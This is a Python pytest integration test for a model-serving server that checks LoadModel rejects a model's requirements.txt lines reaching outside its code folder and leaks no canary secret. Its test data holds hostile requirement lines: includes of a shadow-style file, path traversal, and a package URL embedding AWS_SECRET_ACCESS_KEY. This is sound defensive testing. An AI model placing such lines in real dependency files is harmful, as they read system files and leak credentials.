"""A model's ``code/requirements.txt`` naming files outside its ``code/`` folder, against a running server.

``-r /etc/shadow`` had pip quote that file into the LoadModel error. A canary
file outside the model holds a secret: no LoadModel answer, no line of the
server's log and no file of the dependency folder may carry it.
"""

from __future__ import annotations

import json

import pytest

from tests.integration.conftest import write_script_model
from tests.reliability.conftest import assert_short_json_error, record, start_server, stop_server

SECRET = "TORCH-MME-CANARY-b41c07"
MODEL = """
    def model_fn(model_dir):
        return object()

    def transform_fn(model, body, content_type, accept):
        return "{}", "application/json"
"""
LINES = {
    "include": "-r {secret}",
    "constraint": "--constraint={secret}",
    "relative": "-r ../../../../outside/shadow",  # code -> model -> name -> models -> base
    "path": "{secret}",
    "index": "--extra-index-url http://127.0.0.1:9/simple",
    "environment": "tmmepkg @ http://127.0.0.1:9/${{AWS_SECRET_ACCESS_KEY}}.whl",
}


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile-requirements")
    outside = base / "outside"
    outside.mkdir()
    secret = outside / "shadow"
    secret.write_text(f"root:{SECRET}:0:0\n{SECRET}-pkg==1.0\n")
    root, deps, logs = base / "models", base / "deps", tmp_path_factory.mktemp("logs")
    for name, line in LINES.items():
        model = root / name / "model"
        write_script_model(model, MODEL)
        (model / "code" / "requirements.txt").write_text("numpy\n" + line.format(secret=secret) + "\n")
    env = {"TORCH_MME_PIP_INDEX": "off", "TORCH_MME_DEPS_DIR": str(deps), "AWS_SECRET_ACCESS_KEY": SECRET}
    server = start_server(root, logs, env=env)
    try:
        yield {"server": server, "root": root, "deps": deps, "log": logs / "serve.log"}
    finally:
        stop_server(server)


@pytest.mark.parametrize("name", sorted(LINES))
def test_load_model_refuses_requirements_reaching_outside_code(world, name):
    server = world["server"]
    status, body = server.load(name, str(world["root"] / name / "model"))
    record(f"hostile requirements {name}", requests=1, status=status)
    assert status == 500, body
    assert body["type"] == "DependencyInstallError", body
    assert "code/requirements.txt line 2" in body["message"], body
    assert SECRET not in body["message"]
    assert_short_json_error(status, json.dumps(body).encode())
    assert server.request("GET", f"/models/{name}")[0] == 404
    assert SECRET not in world["log"].read_text(errors="replace")
    for path in world["deps"].rglob("*") if world["deps"].exists() else []:
        if path.is_file():
            assert SECRET not in path.read_text(errors="replace"), path
